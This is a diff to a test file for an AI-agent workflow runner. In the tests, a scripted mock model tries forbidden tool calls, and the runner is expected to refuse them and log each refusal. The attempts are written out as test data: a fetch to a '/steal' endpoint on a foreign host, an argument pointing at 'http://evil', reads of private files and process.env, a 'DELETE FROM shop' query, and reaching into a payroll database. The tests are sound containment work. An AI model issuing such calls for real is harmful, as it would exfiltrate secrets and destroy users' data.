@@ -79,13 +79,13 @@ afterAll(async () => {
   rmSync(folder, { recursive: true });
 });
 
-const flow: Flow = {
+const flowOf = (strategy: string): Flow => ({
   format: 'switchyard.flow',
   version: 1,
   name: 'Worst',
   nodes: {
     ask: { kind: 'input', config: { fields: { q: { type: 'string' } } } },
-    boss: { kind: 'control', config: { model: 'm' } },
+    boss: { kind: 'control', config: { model: 'm', strategy } },
     orders: { kind: 'sql', config: { connection: 'shop' } },
     wages: { kind: 'sql', config: { connection: 'payroll', query: 'SELECT 1 AS one' } },
     carrier: {
@@ -111,9 +111,10 @@ const flow: Flow = {
     { from: 'boss', to: 'carrier', operations: ['track', 'cancel'], approvalSeconds: 0.05 },
   ],
   limits: { callsPerTurn: 16, toolCalls: 24 },
-};
+});
 
-async function run(): Promise<RunView> {
+async function run(strategy: 'tools' | 'plan' | 'code' = 'tools'): Promise<RunView> {
+  const flow = flowOf(strategy);
   const { plan, diagnostics } = compile(flow, workspace, kinds);
   if (!plan) throw new Error(JSON.stringify(diagnostics));
   const runner = createRunner({ registry: kinds, host, redactor: () => (value) => JSON.parse(JSON.stringify(value).replaceAll(secret, '***')) });
@@ -144,6 +145,24 @@ const attempts = [
   ['names another host in an argument too many', call('carrier_track', { parcel: '7', baseUrl: 'http://evil' }), 'arguments-invalid'],
 ] as const;
 
+/** Codes of the failures that the trace shows, by what was called. */
+const shownIn = (view: RunView) => [...view.calls.values()].flatMap(({ target, failure }) => (failure ? [`${target.operation} ${failure.code}`] : []));
+
+/** What arrived at the servers, and what stands in the databases. */
+function expectNoHarm(view: RunView): void {
+  expect(arrived.foreign).toEqual([]);
+  for (const line of arrived.api) expect(line).toMatch(/^GET \/v1\/parcels\/[^/?#]*$/);
+  for (const name of ['shop', 'payroll']) {
+    const database = new DatabaseSync(join(folder, `${name}.db`), { readOnly: true });
+    expect(database.prepare(`SELECT what FROM ${name}`).all()).toEqual([{ what: `${name}-content` }]);
+    database.close();
+  }
+  expect(existsSync(join(folder, 'copy.db'))).toBe(false);
+  const everything = JSON.stringify([[...view.calls.values()], model.requests.map(({ body }) => body)]);
+  expect(everything).not.toContain(secret);
+  expect(everything).not.toContain('payroll-content');
+}
+
 test('nothing that was not granted arrives anywhere, and the trace shows each refusal', async () => {
   model.play([
     { toolCalls: [track('7')] },
@@ -156,18 +175,45 @@ test('nothing that was not granted arrives anywhere, and the trace shows each re
   const told = model.requests.at(-1)?.body.messages.filter(({ role }) => role === 'tool') ?? [];
   for (const [index, [what, , code]] of attempts.entries()) expect(JSON.stringify(told[index + 1]), what).toContain(code);
 
-  expect(arrived.foreign).toEqual([]);
-  expect(arrived.api.length).toBeGreaterThan(0);
-  for (const line of arrived.api) expect(line).toMatch(/^GET \/v1\/parcels\/[^/?#]*$/);
-  for (const name of ['shop', 'payroll']) {
-    const database = new DatabaseSync(join(folder, `${name}.db`), { readOnly: true });
-    expect(database.prepare(`SELECT what FROM ${name}`).all()).toEqual([{ what: `${name}-content` }]);
-    database.close();
+  const shown = shownIn(view);
+  for (const [what, { name }, code] of attempts) {
+    if (code === 'call-rejected') continue;
+    const operation = code === 'tool-unknown' ? name : name.slice(name.indexOf('_') + 1);
+    expect(
+      shown.some((one) => one.startsWith(`${operation} ${code}`)),
+      what,
+    ).toBe(true);
   }
-  expect(existsSync(join(folder, 'copy.db'))).toBe(false);
-  const everything = JSON.stringify([[...view.calls.values()], model.requests.map(({ body }) => body)]);
-  expect(everything).not.toContain(secret);
-  expect(everything).not.toContain('payroll-content');
+  expect([...view.asked.values()].map(({ answer }) => answer)).toEqual([undefined]);
+  expect(arrived.api.length).toBeGreaterThan(0);
+  expectNoHarm(view);
+});
+
+test('a plan of the same does no more', async () => {
+  const steps = attempts.map(([, { name, arguments: args }], index) => ({ id: `s${index}`, operation: name, arguments: args }));
+  const granted = steps.filter((_, index) => !['tool-unknown', 'arguments-invalid'].includes(attempts[index]?.[2] ?? ''));
+  const plan = (of: typeof steps) => ({ toolCalls: [call('make-plan', { steps: of } as unknown as JsonObject)] });
+  model.play([plan(steps), plan(granted), { toolCalls: [query('DELETE FROM shop')] }, 'I did all that I was told.']);
+  const view = await run('plan');
+  expect(view.status).toBe('done');
+  expect(shownIn(view)).toEqual(expect.arrayContaining(['make-plan plan-invalid', 'query sql-refused', 'query sql-invalid', 'query tool-unknown']));
+  expectNoHarm(view);
+});
+
+test('code of the same does no more, and reaches nothing around its functions', async () => {
+  const tries = attempts.map(([, { name, arguments: args }]) => {
+    const [node = '', operation = ''] = name.split(/_(.*)/, 2);
+    return `() => ${node}.${operation}(${JSON.stringify(args)})`;
+  });
+  const others = [`() => fetch('${foreign}/steal')`, `() => require('fs').readFileSync('private.txt')`, '() => process.env', `() => import('node:fs')`];
+  const code = `const told = []; for (const attempt of [${[...tries, ...others].join(', ')}]) { try { await attempt(); told.push('done'); } catch (error) { told.push(String(error)); } } return told;`;
+  model.play([{ toolCalls: [call('run-code', { code })] }, 'I did all that I was told.']);
+  const view = await run('code');
+  expect(view.status).toBe('done');
+  const told = JSON.stringify(model.requests.at(-1)?.body.messages.at(-1));
+  expect(told).not.toContain('done');
+  expect(shownIn(view)).toEqual(expect.arrayContaining(['query sql-refused', 'query sql-invalid', 'track arguments-invalid']));
+  expectNoHarm(view);
 });
 
 test('endless calls end at the limit, before the call that would pass it', async () => {
